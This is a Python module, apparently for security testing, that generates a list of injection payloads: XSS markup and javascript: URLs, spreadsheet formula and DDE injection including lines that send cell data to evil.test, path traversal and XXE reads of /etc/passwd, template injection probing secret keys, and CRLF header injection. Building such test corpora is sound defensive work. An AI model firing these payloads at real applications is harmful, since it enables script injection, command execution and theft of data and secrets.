"""Hostile strings by families: what somebody might plant in a source to act in the reader's program."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVENTS = """
    onbegin onpaste onwheel onerror onload onclick onfocus onmouseover ontoggle onanimationstart onpointerenter
""".split()
TAGS = "a button img svg body input video details iframe marquee".split()
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:"),
    *("https://evil.test/", "//evil.test/"),
)
FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test?x="&A1,"click")',
    'WEBSERVICE("https://evil.test/"&A1)',
    'IMPORTXML("https://evil.test","//a")',
    "SUM(A1:A9)*cmd|'/c powershell'!A1",
    'DDE("cmd";"/C calc";"x")',
)
STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "'=", '"=', "%0A-"),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),  # full-width forms of = + - @
)
PATHS = (
    *("../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "C:\\x", "a/../../b", "....//x", "%2e%2e/x", "CON"),
    *("\u202egpj.exe", "x\x00.txt", "~root", "file\nname"),
)
TEMPLATES = (
    *("{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(secret)s"),
    *("{{ settings.SECRET_KEY }}", "[[7*7]]", "*{7*7}"),
)
FRAMES = (
    *('<a href="{}alert(1)">x</a>', "<iframe src='{}alert(1)'></iframe>", '<form action="{}x"><button>'),
    *("<base href={}>", "<link rel=stylesheet href={}x>", "<object data={}x>", "<embed src={}x>"),
    '<meta http-equiv=refresh content="0;url={}x">',
)
ELEMENTS = """
<script>alert(1)</script>
</dd></dl><script src=//evil.test/x></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<!--><script>alert(1)</script-->
<style>@import 'https://evil.test/x'</style>
<div style="background:url(https://evil.test)">
<svg><script>alert(1)</script></svg>
<math><mtext><script>alert(1)</script>
]]><script>alert(1)</script>
<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
&lt;script&gt;alert(1)&lt;/script&gt;
<title></title><script>alert(1)</script>
""".strip().splitlines()


def html() -> Iterator[str]:
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}=alert(1) src=x>"
        yield f'"><{tag} {event}="alert(1)">'
    for scheme, frame in product(SCHEMES, FRAMES):
        yield frame.format(scheme)
    yield from ELEMENTS


def formulas() -> Iterator[str]:
    for start, formula in product(STARTS, FORMULAS):
        yield start + formula


def all_payloads() -> list[str]:
    """Each string once; more than four hundred of them."""
    rest = (*PATHS, *TEMPLATES, "\x00\x01\x1b[31m", "a" * 5000, "\u202eabc", "']]>\"", "\r\nX-Header: 1")
    return list(dict.fromkeys((*html(), *formulas(), *rest)))
